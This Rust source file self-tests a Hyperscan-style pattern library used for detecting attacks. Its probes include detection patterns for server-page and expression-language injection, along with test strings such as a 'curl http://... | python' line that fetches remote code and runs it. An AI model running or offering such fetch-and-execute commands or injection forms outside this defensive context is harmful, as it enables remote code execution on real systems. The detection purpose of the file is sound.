//! The pattern library, and whether it can be trusted.

use std::ffi::CString;
use std::sync::OnceLock;

use edge_hyperscan::{Database, Scanner};

/// The pattern library in use.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PatternLibrary {
    /// Its own version line.
    pub version: &'static str,
    /// Whether this machine can run it and it passes the self-test. If not, the fallback engine looks for every
    /// pattern: right, and slow.
    pub is_sound: bool,
}

impl PatternLibrary {
    /// Asks the library once what others of its interface have been seen to get wrong. A missed match is a leak: on a
    /// wrong answer nothing is given to it.
    pub fn in_use() -> Self {
        static SOUND: OnceLock<bool> = OnceLock::new();
        let is_sound = *SOUND.get_or_init(|| edge_hyperscan::supported() && self_test(&PROBES));
        Self { version: edge_hyperscan::version(), is_sound }
    }
}

/// Patterns of one database, and texts with the pattern that each must be found by.
type Probe<'a> = (&'a [&'a str], &'a [(usize, &'a str)]);

/// What has been seen to be missed: gaps of any characters beside a set of markup patterns (Vectorscan issue 358),
/// gaps before an escaped bar at certain offsets (issue 382). And what optimised matchers find hard: case-folding
/// classes, overlapping alternatives, bounded gaps, boundaries, either end, the far side of a vector.
const PROBES: [Probe<'static>; 3] = [
    (
        &[
            r"<%[\x{0}-\x{10ffff}]+%>",
            "<[^<>]+:(?:include|forward|invoke|doBody|getProperty|setProperty|useBean|plugin|element|attribute|body|fallback|params|param|output|root)",
            r"[\$#]\{[\x{0}-\x{10ffff}]+\([\x{0}-\x{10ffff}]*\)[\x{0}-\x{10ffff}]*\}",
        ],
        &[(0, "<%out.print();int a%>")],
    ),
    (
        &[r"curl[\x{0}-\x{10ffff}]*\|[\x{9}-\x{a}\x{c}-\x{d} ]*python"],
        &[
            (0, "curl http://xxx:8000/ 2>&1 | python"),
            (0, "curl http://xxxx:8000/ 2>&1 | python"),
            (0, "curl http://vader:8080/ 2>&1 | python"),
        ],
    ),
    (
        &[
            "[fF][oO][oO]",
            "(?:abc|abcd)e",
            "a.{3,8}b",
            r"\Auser [0-9]+\z",
            "[a-z]{4}[0-9]{4}",
            "(?:foo|bar)+baz",
            r"\bcard\b",
            r"[\x{e0}-\x{fc}]t[\x{e9}]",
        ],
        &[
            (0, "xxFoO"),
            (1, "zabcde"),
            (2, "a1234567b"),
            (3, "user 42"),
            (4, "......................................................................abcd1234"),
            (5, "foobarfoobaz"),
            (6, "the card is"),
            (7, "\u{e9}t\u{e9}"),
        ],
    ),
];

fn self_test(probes: &[Probe<'_>]) -> bool {
    probes.iter().all(|(patterns, texts)| finds_all(patterns, texts).unwrap_or(false))
}

fn finds_all(patterns: &[&str], texts: &[(usize, &str)]) -> Option<bool> {
    let patterns: Vec<CString> =
        patterns.iter().map(|pattern| CString::new(*pattern).ok()).collect::<Option<_>>()?;
    let mut scanner = Scanner::new([Database::compile(patterns).ok()?.into()].into()).ok()?;
    let mut finds = |(pattern, text): &(usize, &str)| {
        let mut found = false;
        scanner.scan(0, text, |id| found |= id as usize == *pattern).is_ok() && found
    };
    Some(texts.iter().all(&mut finds))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_library_here_passes() {
        assert!(PatternLibrary::in_use().is_sound);
    }

    #[test]
    fn a_missed_match_or_a_refusal_fails() {
        assert!(!self_test(&[(&["a", "b"], &[(0, "a"), (1, "a")])]));
        assert!(!self_test(&[(&["("], &[(0, "(")])]));
    }
}
